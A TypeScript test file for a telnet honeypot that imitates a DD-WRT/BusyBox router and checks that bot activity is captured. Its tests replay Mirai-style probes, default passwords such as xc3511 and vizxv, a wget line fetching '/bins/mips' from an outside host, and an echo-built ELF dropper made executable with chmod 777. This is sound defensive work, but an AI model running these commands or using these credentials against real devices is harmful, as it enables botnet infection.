// The telnet decoy over real sockets: raw conversations as bots hold them, the telnet client and nmap.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Socket } from "node:net";
import { connect } from "node:net";
import { capturedBytes } from "../../src/contract/captured.ts";
import { createSeededRandom } from "../../src/contract/random.ts";
import { telnet } from "../../src/decoys/telnet/index.ts";
import type { RunningDecoy } from "../support/decoy-host.ts";
import { startDecoy } from "../support/decoy-host.ts";
import { TEST_LOGIN } from "../support/persona.ts";

const OPTIONS = "\xff\xfd\x01\xff\xfd\x1f\xff\xfd!\xff\xfb\x01\xff\xfb\x03";
let decoy: RunningDecoy;

beforeAll(async () => {
  decoy = await startDecoy(telnet);
});

afterAll(async () => {
  await decoy.close();
  expect(decoy.broken).toEqual([]);
});

/** A raw client. */
interface Raw {
  readonly socket: Socket;
  /** Everything received. */
  text(): string;
  send(text: string): void;
  /** Resolves with what came since the last call once it holds `wanted`; rejects after 10 s or at the end. */
  until(wanted: string): Promise<string>;
  readonly ended: Promise<void>;
}

async function dial(host: RunningDecoy = decoy): Promise<Raw> {
  const socket = connect(host.port, host.host);
  let all = "";
  let seen = 0;
  let look = (): void => undefined;
  let over = false;
  socket.on("data", (bytes) => {
    all += bytes.toString("latin1");
    look();
  });
  const ended = new Promise<void>((resolve) =>
    socket.on("close", () => {
      over = true;
      look();
      resolve();
    }),
  );
  socket.on("error", () => socket.destroy());
  await new Promise<void>((resolve) => socket.once("connect", () => resolve()));
  return {
    socket,
    ended,
    text: () => all,
    send: (text) => void socket.write(Buffer.from(text, "latin1")),
    until: (wanted) =>
      new Promise((resolve, reject) => {
        const timer = setTimeout(
          () => reject(new Error(`no ${JSON.stringify(wanted)} in ${JSON.stringify(all.slice(seen))}`)),
          10_000,
        );
        look = () => {
          const at = all.indexOf(wanted, seen);
          if (at < 0 && !over) return;
          clearTimeout(timer);
          look = () => undefined;
          if (at < 0)
            return reject(
              new Error(`ended without ${JSON.stringify(wanted)}: ${JSON.stringify(all.slice(seen))}`),
            );
          const part = all.slice(seen, at + wanted.length);
          seen = at + wanted.length;
          resolve(part);
        };
        look();
      }),
  };
}

async function enter(host: RunningDecoy = decoy): Promise<Raw> {
  const raw = await dial(host);
  await raw.until("login: ");
  raw.send(`${TEST_LOGIN.username}\r\n`);
  await raw.until("Password: ");
  raw.send(`${TEST_LOGIN.password}\r\n`);
  await raw.until("# ");
  return raw;
}

describe("login", () => {
  test("opens as BusyBox telnetd and lets the right password in", async () => {
    const raw = await enter();
    const { hostname, products, firmware } = decoy.persona;
    expect(raw.text()).toStartWith(
      `${OPTIONS}\r\r\nDD-WRT v${products["telnet"]?.version}\r\nRelease: ${firmware?.release} (SVN revision: ${firmware?.revision})\r\n\xff\r\n${hostname} login: root\r\nPassword: \r\n====`,
    );
    expect(raw.text()).toEndWith(
      `====\r\n\r\n\r\nBusyBox v1.13.4 (${firmware?.busybox.built}) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\nroot@${hostname}:~# `,
    );
    raw.send("exit\r\n");
    await raw.ended;
    expect(decoy.of("auth.attempted").at(-1)?.data).toMatchObject({
      method: "password",
      username: { val: "root" },
      secret: { val: TEST_LOGIN.password },
      accepted: true,
    });
  });

  test("a wrong password is recorded, waits and is asked again; the third ends it", async () => {
    const before = decoy.of("auth.attempted").length;
    const raw = await dial();
    for (const secret of ["wrong", "xc3511", "vizxv"]) {
      await raw.until("login: ");
      raw.send("root\r\n");
      await raw.until("Password: ");
      raw.send(`${secret}\r\n`);
      await raw.until("Login incorrect\r\n");
    }
    await raw.ended;
    expect(
      decoy
        .of("auth.attempted")
        .slice(before)
        .map((record) => [record.data.secret?.val, record.data.accepted]),
    ).toEqual([
      ["wrong", false],
      ["xc3511", false],
      ["vizxv", false],
    ]);
  }, 20_000);

  test("empty names get the prompt again and at last an end", async () => {
    const raw = await dial();
    await raw.until("login: ");
    raw.send("\r\n".repeat(12));
    await raw.ended;
    expect(raw.text().split("login: ")).toHaveLength(11);
  });

  test("Ctrl-D ends it", async () => {
    const raw = await dial();
    await raw.until("login: ");
    raw.send("\x04");
    await raw.ended;
  });
});

describe("a bot's conversation", () => {
  test("the probes of Mirai get a device's answers", async () => {
    const raw = await enter();
    raw.send("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n");
    const probes = await raw.until("ECCHI: applet not found\r\n");
    for (const word of ["enable", "system", "shell"]) expect(probes).toContain(`-sh: ${word}: not found\r\n`);
    raw.send("/bin/busybox ps; /bin/busybox ECCHI\r\n");
    expect(await raw.until("ECCHI: applet not found\r\n")).toContain("PID USER       VSZ STAT COMMAND\r\n");
    raw.send("cat /proc/mounts; /bin/busybox ECCHI\r\n");
    expect(await raw.until("ECCHI: applet not found\r\n")).toContain("ramfs /tmp ramfs rw 0 0\r\n");
    raw.send(
      "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon\r\n",
    );
    await raw.until("kami/tmp\r\n");
    raw.send("cd /tmp; cat /bin/echo | head -c 4; /bin/busybox ECCHI\r\n");
    expect(await raw.until("applet not found\r\n")).toContain("\x7fELF");
    raw.send("/bin/busybox wget http://198.51.100.9/bins/mips -O - > dvrHelper\r\n");
    const asked = await decoy.waitFor("download.requested", (record) =>
      record.data.url.val.endsWith("/bins/mips"),
    );
    expect(asked.data.tool).toBe("wget");
    raw.send("\x03");
    await raw.until("^C\r\n");
    raw.socket.end();
    await raw.ended;
    const commands = decoy.of("command.executed").filter((record) => record.session === asked.session);
    expect(commands.map((record) => record.data.command.val).slice(0, 5)).toEqual([
      "enable",
      "system",
      "shell",
      "sh",
      "/bin/busybox ECCHI",
    ]);
  });

  test("a dropper written with echo is captured, and the terminal recorded", async () => {
    const raw = await enter();
    raw.send(
      "cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .d; echo -ne '\\x02\\x03' >> .d; chmod 777 .d; rm .d; echo do''ne\r\n",
    );
    await raw.until("\r\ndone\r\n");
    raw.send("exit\r\n");
    await raw.ended;
    const file = await decoy.waitFor("file.uploaded", (record) => record.data.name.val === "/tmp/.d");
    expect(Buffer.from(decoy.blobs.get(file.data.sha256) ?? []).toString("hex")).toBe("7f454c46010203");
    const recorded = await decoy.waitFor("terminal.recorded", (record) => record.session === file.session);
    const lines = Buffer.from(decoy.blobs.get(recorded.data.sha256) ?? [])
      .toString()
      .trim()
      .split("\n");
    const [head, ...events] = lines.map((line) => JSON.parse(line) as unknown);
    expect(head).toMatchObject({ version: 2, width: 80, height: 24 });
    const shown = (events as [number, string, string][])
      .filter((event) => event[1] === "o")
      .map((event) => event[2])
      .join("");
    expect(shown).toContain("echo do''ne\r\ndone\r\n");
  });

  test("bytes that are no telnet and no text neither hang nor break it", async () => {
    const random = createSeededRandom("telnet-hostile");
    for (let round = 0; round < 12; round++) {
      const raw = await (round % 2 === 0 ? enter() : dial());
      raw.socket.write(random.bytes(3000));
      raw.send("\r\n\xff\xfa\x18");
      raw.socket.end(Buffer.alloc(2000, 0x78));
      await raw.ended;
    }
    const live = await enter();
    live.send("echo al''ive\r\n");
    await live.until("\r\nalive\r\n");
    live.socket.destroy();
  });
});

describe("real clients", () => {
  test.skipIf(Bun.which("telnet") === null)(
    "telnet logs in and runs a command (skips without telnet)",
    async () => {
      const child = Bun.spawn(["telnet", decoy.host, String(decoy.port)], {
        stdin: "pipe",
        stdout: "pipe",
        stderr: "ignore",
      });
      let shown = "";
      const decoder = new TextDecoder("latin1");
      const reader = child.stdout.getReader();
      const until = async (wanted: string): Promise<void> => {
        for (let pieces = 0; !shown.includes(wanted) && pieces < 500; pieces++) {
          const { value, done } = await reader.read();
          if (done) break;
          shown += decoder.decode(value);
        }
        expect(shown).toContain(wanted);
        shown = shown.slice(shown.indexOf(wanted) + wanted.length);
      };
      const type = (text: string): void => {
        child.stdin.write(text);
        child.stdin.flush();
      };
      await until("login: ");
      type(`${TEST_LOGIN.username}\n`);
      await until("Password: ");
      type(`${TEST_LOGIN.password}\n`);
      await until("# ");
      type("uname -m\n");
      await until(`${decoy.persona.os.machine}\r\n`);
      type("exit\n");
      await child.exited;
      const ran = decoy
        .of("command.executed")
        .filter((record) => Buffer.from(capturedBytes(record.data.command)).toString() === "uname -m");
      expect(ran).toHaveLength(1);
    },
    20_000,
  );

  test.skipIf(Bun.which("nmap") === null)(
    "nmap -sV names product and version of the persona (skips without nmap)",
    async () => {
      const child = Bun.spawn(["nmap", "-sV", "-Pn", "-n", "-p", String(decoy.port), decoy.host], {
        stdout: "pipe",
        stderr: "ignore",
      });
      const report = await new Response(child.stdout).text();
      const { product, version } = decoy.persona.products["telnet"] ?? {};
      const [, named] = /^\d+\/tcp\s+open\s+telnet\s+(.*)$/m.exec(report) ?? [];
      expect(named).toBe(`${product} ${version}`);
    },
    60_000,
  );
});
